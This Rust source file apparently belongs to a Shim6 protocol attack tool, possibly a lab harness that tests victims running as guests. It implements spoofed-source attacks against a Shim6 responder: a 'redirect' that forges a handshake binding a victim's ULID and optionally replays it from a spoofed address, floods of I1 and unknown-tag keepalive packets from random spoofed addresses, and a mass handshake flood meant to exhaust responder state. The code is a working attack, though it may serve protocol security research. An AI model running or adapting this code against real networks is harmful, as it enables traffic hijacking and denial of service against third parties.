//! The subcommands: each sends, counts what comes back and returns its
//! tally. None decides whether the attack worked; the scenario does, from
//! the victim's state.

use std::collections::HashMap;
use std::net::Ipv6Addr;
use std::thread;
use std::time::{Duration, Instant};

use shim6_proto::random::RandomSource;
use shim6_proto::wire::Message;

use crate::cli::{FloodArgs, HandshakeFloodArgs, RedirectArgs, Via};
use crate::forge::{self, Initiator, Received};
use crate::pacing::{next_due_after, packets_due};
use crate::spoofing_socket::SpoofingSocket;
use crate::tally::Tally;

/// How long to sleep when nothing is queued: short against the rates of
/// the floods, long enough not to spin a slow guest's CPU.
const IDLE_POLL: Duration = Duration::from_millis(1);

/// Sends one message and counts it (or the error) under `name`.
fn send(
    socket: &SpoofingSocket,
    tally: &mut Tally,
    src: Ipv6Addr,
    dst: Ipv6Addr,
    message: &Message,
    name: &str,
) {
    match socket.send(src, dst, message) {
        Ok(()) => tally.count_sent(name),
        Err(error) => tally.count_send_error(&error),
    }
}

/// Receives and counts everything queued; hands each control message to
/// `on_message`.
fn drain(socket: &mut SpoofingSocket, tally: &mut Tally, mut on_message: impl FnMut(Message)) {
    loop {
        let received = match socket.receive() {
            Ok(Some(bytes)) => Received::classify(bytes),
            Ok(None) => return,
            Err(error) => {
                tally.note("receive_error", error);
                return;
            }
        };
        tally.count_received(received.name());
        if let Received::Control(message) = received {
            on_message(*message);
        }
    }
}

/// Receives (and counts) until a control message `wanted` accepts comes,
/// or `deadline`.
fn wait_for(
    socket: &mut SpoofingSocket,
    tally: &mut Tally,
    deadline: Instant,
    mut wanted: impl FnMut(&Message) -> bool,
) -> Option<Message> {
    loop {
        let mut found = None;
        drain(socket, tally, |message| {
            if found.is_none() && wanted(&message) {
                found = Some(message);
            }
        });
        if found.is_some() || Instant::now() >= deadline {
            return found;
        }
        thread::sleep(IDLE_POLL);
    }
}

pub fn redirect(
    socket: &mut SpoofingSocket,
    args: &RedirectArgs,
    rng: &mut impl RandomSource,
) -> Tally {
    let start = Instant::now();
    let mut tally = Tally::new("redirect");
    let wait = Duration::from_millis(args.wait_ms);
    let receiver_ulid = args.receiver_ulid.unwrap_or(args.responder);
    let initiator = Initiator::random(rng, Some(forge::ulid_pair(args.victim_ulid, receiver_ulid)));
    tally.note("victim_ulid", args.victim_ulid);
    tally.note("receiver_ulid", receiver_ulid);
    tally.note("initiator_tag", initiator.tag.get());

    let (challenge_name, answer) = match args.via {
        Via::I2 => {
            send(
                socket,
                &mut tally,
                args.from,
                args.responder,
                &initiator.i1(),
                "i1",
            );
            let r1 = wait_for(socket, &mut tally, Instant::now() + wait, |message| {
                matches!(message, Message::R1(_)) && initiator.is_answered_by(message)
            });
            let i2 = match r1 {
                Some(Message::R1(r1)) => initiator.i2_answering(&r1),
                _ => None,
            };
            ("r1", i2.map(|message| (message, "i2")))
        }
        Via::I2bis => {
            let unknown_tag = forge::random_tag(rng);
            send(
                socket,
                &mut tally,
                args.from,
                args.responder,
                &forge::keepalive_for_tag(unknown_tag),
                "keepalive",
            );
            let r1bis = wait_for(
                socket,
                &mut tally,
                Instant::now() + wait,
                |message| matches!(message, Message::R1bis(r1bis) if r1bis.packet_tag == unknown_tag),
            );
            let i2bis = match r1bis {
                Some(Message::R1bis(r1bis)) => initiator.i2bis_answering(&r1bis),
                _ => None,
            };
            ("r1bis", i2bis.map(|message| (message, "i2bis")))
        }
    };

    match answer {
        None => tally.note(
            "outcome",
            format!("no {challenge_name} with a validator came back"),
        ),
        Some((message, name)) => {
            send(
                socket,
                &mut tally,
                args.from,
                args.responder,
                &message,
                name,
            );
            let r2 = wait_for(socket, &mut tally, Instant::now() + wait, |message| {
                matches!(message, Message::R2(_)) && initiator.is_answered_by(message)
            });
            match r2 {
                Some(Message::R2(r2)) => {
                    tally.note("outcome", format!("{name} accepted: R2 received"));
                    tally.note("responder_tag", r2.responder_tag.get());
                }
                _ => tally.note("outcome", format!("{name} not answered")),
            }
            if let Some(spoofed) = args.spoofed_replay {
                send(
                    socket,
                    &mut tally,
                    spoofed,
                    args.responder,
                    &message,
                    &format!("{name}_replayed"),
                );
                tally.note("replayed_from", spoofed);
            }
        }
    }
    drain(socket, &mut tally, |_| {});
    tally.finish(start.elapsed());
    tally
}

/// What a flood sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FloodKind {
    I1,
    KeepaliveUnknownTag,
}

pub fn flood(
    socket: &mut SpoofingSocket,
    args: &FloodArgs,
    kind: FloodKind,
    rng: &mut impl RandomSource,
) -> Tally {
    let (attack, name) = match kind {
        FloodKind::I1 => ("flood-i1", "i1"),
        FloodKind::KeepaliveUnknownTag => ("flood-keepalive", "keepalive"),
    };
    let mut tally = Tally::new(attack);
    tally.note("spoof_prefix", args.spoof_prefix);
    tally.note("target_rate", args.rate);
    let length = Duration::from_secs(args.seconds);
    let start = Instant::now();
    let mut attempted = 0u64;
    loop {
        let elapsed = start.elapsed();
        if elapsed >= length {
            break;
        }
        let due = packets_due(args.rate, elapsed);
        while attempted < due {
            let src = args.spoof_prefix.random_address(rng);
            let message = match kind {
                FloodKind::I1 => forge::plain_i1(rng),
                FloodKind::KeepaliveUnknownTag => forge::keepalive_for_tag(forge::random_tag(rng)),
            };
            send(socket, &mut tally, src, args.responder, &message, name);
            attempted += 1;
        }
        drain(socket, &mut tally, |_| {});
        // Asleep until the next packet is due: at a few hundred packets a
        // second, polling every millisecond would cost a slow guest more
        // CPU than the flood it sends.
        let wake_at = next_due_after(args.rate, attempted).min(length);
        thread::sleep(wake_at.saturating_sub(start.elapsed()).max(IDLE_POLL));
    }
    tally.finish(start.elapsed());
    tally
}

/// One handshake of the handshake flood, by its initiator nonce.
struct Handshake {
    initiator: Initiator,
    from: Ipv6Addr,
    i2_sent: bool,
}

pub fn flood_handshake(
    socket: &mut SpoofingSocket,
    args: &HandshakeFloodArgs,
    rng: &mut impl RandomSource,
) -> Tally {
    let mut tally = Tally::new("flood-handshake");
    tally.note("from_prefix", args.from_prefix);
    let start = Instant::now();
    let deadline = start + Duration::from_secs(args.seconds);
    let mut pending: HashMap<u32, Handshake> = HashMap::new();
    let mut started = 0u64;
    let mut established = 0u64;
    while Instant::now() < deadline && (started < args.count || !pending.is_empty()) {
        let due = packets_due(args.rate, start.elapsed()).min(args.count);
        while started < due {
            let host = args.first_host.saturating_add(u128::from(started));
            started += 1;
            let Some(from) = args.from_prefix.address_at(host) else {
                tally.note(
                    "stopped",
                    format!("host part {host:#x} is outside {}", args.from_prefix),
                );
                break;
            };
            let mut initiator = Initiator::random(rng, None);
            // Nonces identify the answers: keep them distinct.
            while pending.contains_key(&initiator.nonce) {
                initiator.nonce = rng.next_u32();
            }
            send(
                socket,
                &mut tally,
                from,
                args.responder,
                &initiator.i1(),
                "i1",
            );
            pending.insert(
                initiator.nonce,
                Handshake {
                    initiator,
                    from,
                    i2_sent: false,
                },
            );
        }
        let mut answers = Vec::new();
        drain(socket, &mut tally, |message| answers.push(message));
        for message in answers {
            match &message {
                Message::R1(r1) => {
                    let Some(handshake) = pending.get_mut(&r1.initiator_nonce) else {
                        continue;
                    };
                    if handshake.i2_sent {
                        continue;
                    }
                    if let Some(i2) = handshake.initiator.i2_answering(r1) {
                        handshake.i2_sent = true;
                        let from = handshake.from;
                        send(socket, &mut tally, from, args.responder, &i2, "i2");
                    }
                }
                Message::R2(r2) if pending.get(&r2.initiator_nonce).is_some_and(|h| h.i2_sent) => {
                    pending.remove(&r2.initiator_nonce);
                    established += 1;
                }
                _ => {}
            }
        }
        thread::sleep(IDLE_POLL);
    }
    let awaiting_r2 = pending.values().filter(|h| h.i2_sent).count();
    tally.note("established", established);
    tally.note("awaiting_r1", pending.len() - awaiting_r2);
    tally.note("awaiting_r2", awaiting_r2);
    tally.finish(start.elapsed());
    tally
}
